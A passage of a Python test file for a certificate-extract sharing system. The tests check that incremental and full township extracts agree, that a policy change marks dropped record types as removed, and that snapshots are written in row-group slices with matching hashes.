    # the planned rows wait in each plan's Parquet file (its temporary folder, removed here)
    rows = [pq.read_table(e.temp / PARQUET_FILE).to_pylist() for e in (touched, whole)]
    for e in (touched, whole):
        shutil.rmtree(e.temp)
    assert rows[0] == rows[1] and touched.count == whole.count == len(rows[0])
    assert touched.changes == whole.changes
    told = {r["cert_id"] for r in rows[0]}
    assert told  # the comparison below compares something
    has_now, whole_has = (dict(zip(*e.sent.to_pydict().values(), strict=True)) for e in (touched, whole))
    assert {c: h for c, h in has_now.items() if c in told} == {
        c: h for c, h in whole_has.items() if c in told
    }


def test_an_increment_planned_from_what_changed_equals_one_planned_from_everything(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.people(*range(1, 13))
    world.people(*range(20, 26), township=XIAZHUZHUANG)
    world.land([world.lh.licence_row(40, township_code=YANGCUN, valid_to="2026-12-31")], world.lh.LICENCE)
    assert {e.kind for e in world.refresh()} == {"full"}

    # day 2: revoked, suspended, new, a new version in place, a move each way
    world.lifecycle(world.cert(1), "revoke")
    world.lifecycle(world.cert(2), "suspend")
    world.people(13)
    world.people(3, address="天津市武清区杨村街道新华路9号")
    world.people(5, township=XIAZHUZHUANG)
    world.people(20, township=YANGCUN)
    plans = _planned_both_ways(world, monkeypatch)
    assert set(plans) == {YANGCUN, XIAZHUZHUANG}
    for touched, whole, _, _ in plans.values():
        _same_increment(touched, whole)
    touched, _, looked_at, held = plans[YANGCUN]
    assert touched.changes["new"] == 3 and touched.changes["removed"] == 1
    assert looked_at == 7 and held > 13  # 1, 2, 13, 3 (two versions), 5's old version, 20's new one
    world.refresh()

    # day 3: restored, expired, a second new version, a move back; XIAZHUZHUANG untouched
    world.lifecycle(world.cert(2), "restore")
    with world.h.catalog.begin() as conn:
        Lifecycle(world.h.log).expire_due(conn, dt.date(2027, 1, 1))
    world.people(3, address="天津市武清区杨村街道新华路11号")
    world.people(20, township=XIAZHUZHUANG)
    plans = _planned_both_ways(world, monkeypatch)
    for touched, whole, _, _ in plans.values():
        _same_increment(touched, whole)
    assert plans[YANGCUN][0].changes["changed"] == 1 and plans[YANGCUN][0].changes["expired"] == 1
    world.refresh()

    # day 4: a change in the other township only; Yangcun has nothing to tell
    world.lifecycle(world.cert(21), "revoke")
    plans = _planned_both_ways(world, monkeypatch)
    assert set(plans) == {XIAZHUZHUANG}
    _same_increment(*plans[XIAZHUZHUANG][:2])
    assert plans[XIAZHUZHUANG][2] == 1


def test_a_changed_policy_makes_the_increment_compare_everything_the_township_holds(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sharing.extracts as extracts

    world.people(1, 2)
    world.land([world.lh.licence_row(4, township_code=YANGCUN)], world.lh.LICENCE)
    world.refresh()
    licence = world.lh.LICENCE.certificate.type_code
    fewer = extracts.ExtractPolicy({k: v for k, v in world.policy.types.items() if k != licence})
    with world.h.catalog.begin() as conn:  # the township marked stale by something unrelated
        mark_stale(conn, [YANGCUN])
    (written,) = world.refresh(policy=fewer)
    # the licence was touched by nothing, yet it is told 移出: the policy no longer sends its type
    assert written.changes["removed"] == 1
    assert [r["change"] for r in _rows(written.folder)] == ["移出"]


def test_a_township_read_and_hashed_a_slice_at_a_time_gives_the_same_extract(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sharing.extract_manifest as manifest
    import sharing.extracts as ex

    world.people(*range(1, 8))
    world.people(3, address="天津市武清区杨村街道新华路9号")  # a version replaced: joined rows
    monkeypatch.setattr(ex, "_GROUP_ROWS", 3)  # row groups of 3, 3 and 1: the group carried over
    (whole,) = world.refresh()
    with world.h.catalog.read() as conn:
        sent = conn.execute(sa.select(extract_rows).order_by(extract_rows.c.cert_id)).all()
    assert [pq.ParquetFile(whole.folder / PARQUET_FILE).metadata.row_group(i).num_rows for i in range(3)] == [
        3,
        3,
        1,
    ]
    monkeypatch.setattr(ex, "_FETCH_ROWS", 2)
    monkeypatch.setattr(ex, "_READ_ROWS", 2)  # the rows file, its root and what was sent read back
    monkeypatch.setattr(manifest, "_SLICE_ROWS", 3)
    (sliced,) = world.refresh(full=True)
    files = [{f["name"]: f["sha256"] for f in e.files} for e in (whole, sliced)]
    assert files[0][ROWS_FILE] == files[1][ROWS_FILE] and files[0][PARQUET_FILE] == files[1][PARQUET_FILE]
    assert _rows(sliced.folder) == read_xlsx_rows(sliced.folder / XLSX_FILE)  # its 说明 sheet says 第 2 号
    assert whole.changes == sliced.changes == {"snapshot": 7}
    assert verify_extract(sliced.folder, world.verifiers).manifest["rows"] == 7
    with world.h.catalog.read() as conn:
        assert conn.execute(sa.select(extract_rows).order_by(extract_rows.c.cert_id)).all() == sent


def test_a_full_snapshot_is_written_as_it_is_read_never_whole_in_memory(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Planning a full snapshot writes its rows to the Parquet file a slice at a time: no table
    of the whole township (``_found``) is built, and no write holds more than a row group."""
    import sharing.extracts as ex

    world.people(*range(1, 8))
    world.people(3, address="天津市武清区杨村街道新华路9号")
    monkeypatch.setattr(ex, "_FETCH_ROWS", 2)
    monkeypatch.setattr(ex, "_GROUP_ROWS", 3)

    def whole_township(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a full snapshot read the township whole")

    monkeypatch.setattr(ex, "_found", whole_township)
    written: list[int] = []
    real_write = pq.ParquetWriter.write_table

    def spied(self: Any, table: pa.Table, *args: Any, **kwargs: Any) -> None:
        written.append(table.num_rows)
        real_write(self, table, *args, **kwargs)

    monkeypatch.setattr(pq.ParquetWriter, "write_table", spied)
    (snapshot,) = world.refresh()
    assert written == [3, 3, 1] and snapshot.count == 7 and snapshot.kind == "full"
    assert snapshot.rows.num_rows == 0 and snapshot.sent.num_rows == 0
    assert verify_extract(snapshot.folder, world.verifiers).manifest["rows"] == 7


def test_an_extract_of_another_manifest_schema_makes_the_increment_compare_everything(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sharing.extracts as extracts

    world.people(1, 2, 3)
    world.refresh()
    world.people(4)
    asked: list[Any] = []
    real_found = extracts._found

    def spied(conn: Any, township: str, policy: Any, cert_ids: Any = None) -> pa.Table:
        asked.append(None if cert_ids is None else sorted(cert_ids))
        return real_found(conn, township, policy, cert_ids)

    monkeypatch.setattr(extracts, "_found", spied)
    with world.h.catalog.read() as conn:
        extracts._plan(conn, world.out, YANGCUN, 2, world.policy, False)
        monkeypatch.setattr(extracts, "MANIFEST_SCHEMA", "onceonly.example/extract/v0")
        extracts._plan(conn, world.out, YANGCUN, 2, world.policy, False)
    assert asked == [[world.cert(4)], None]


def test_a_township_marked_with_nothing_changed_since_its_extract_gets_no_extract(world: World) -> None:
    world.people(1, 2)
    world.refresh()
    with world.h.catalog.begin() as conn:
        mark_stale(conn, [YANGCUN])  # marked, yet no certificate touched since its checkpoint
    assert world.refresh() == []
    with world.h.catalog.read() as conn:
        (mark,) = conn.execute(sa.select(township_extracts)).all()
        assert len(list_extracts(conn, YANGCUN)) == 1
    assert mark.generation == mark.written_generation
